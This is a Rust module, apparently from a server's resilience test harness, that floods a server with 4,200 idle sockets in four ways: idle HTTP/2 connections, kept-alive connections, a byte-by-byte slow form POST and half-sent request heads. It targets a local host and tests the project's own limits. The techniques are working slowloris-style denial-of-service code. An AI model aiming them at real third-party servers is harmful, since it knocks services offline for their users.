//! Idle sockets: more than the server accepts, of four kinds, each for a while.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::attack::Scale;
use super::client::Route;
use super::outcome::Check;
use super::site::Site;
use super::streams::Streams;

/// More than the default of 4,096 connections in earlier versions.
const SOCKETS: u32 = 4200;

/// What a socket does to look active.
#[derive(Clone, Copy)]
pub(super) enum Occupant {
    /// HTTP/2 without a stream; PINGs are answered.
    Http2,
    /// A connection that is kept open after one answer.
    KeptAlive,
    /// A form, sent byte by byte.
    SlowForm,
    /// An incomplete request head.
    HalfHead,
}

const OCCUPANTS: [Occupant; 4] =
    [Occupant::Http2, Occupant::KeptAlive, Occupant::SlowForm, Occupant::HalfHead];

/// The time of all four kinds together.
pub(super) fn time(scale: Scale) -> Duration {
    scale.hold() * 4
}

/// The four kinds, one after another.
pub(super) async fn run(site: Arc<Site>, scale: Scale) -> Result<Vec<Check>> {
    for occupant in OCCUPANTS {
        hold(site.attack_route(), SOCKETS, occupant, scale.hold()).await;
    }
    Ok(Vec::new())
}

/// Opens this many sockets within a second (all at once would only overflow the kernel's queue) and keeps them for
/// `time`.
pub(super) async fn hold(route: Route, count: u32, occupant: Occupant, time: Duration) {
    let mut sockets = JoinSet::new();
    for number in 0..count {
        sockets.spawn(async move {
            sleep(Duration::from_secs(1) * number / count).await;
            occupy(route, occupant).await
        });
    }
    let _ = timeout(time, sockets.join_all()).await;
}

async fn occupy(route: Route, occupant: Occupant) -> Result<()> {
    const HEAD: &str = "Host: 127.0.0.1\r\n";
    if let Occupant::Http2 = occupant {
        let _connection = Streams::open(route, 64 * 1024).await?;
        return std::future::pending().await;
    }
    let mut stream = route.connect().await?;
    match occupant {
        Occupant::Http2 => {}
        Occupant::KeptAlive => {
            stream.write_all(format!("GET /readyz HTTP/1.1\r\n{HEAD}\r\n").as_bytes()).await?;
        }
        Occupant::SlowForm => {
            let form = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4096\r\n";
            stream.write_all(format!("POST / HTTP/1.1\r\n{HEAD}{form}\r\n").as_bytes()).await?;
            return drip(stream).await;
        }
        Occupant::HalfHead => {
            stream.write_all(format!("GET /readyz HTTP/1.1\r\n{HEAD}").as_bytes()).await?;
        }
    }
    let mut answer = [0; 1024];
    while stream.read(&mut answer).await? > 0 {}
    Ok(())
}

async fn drip(mut stream: TcpStream) -> Result<()> {
    loop {
        stream.write_all(b"a").await?;
        sleep(Duration::from_secs(2)).await;
    }
}
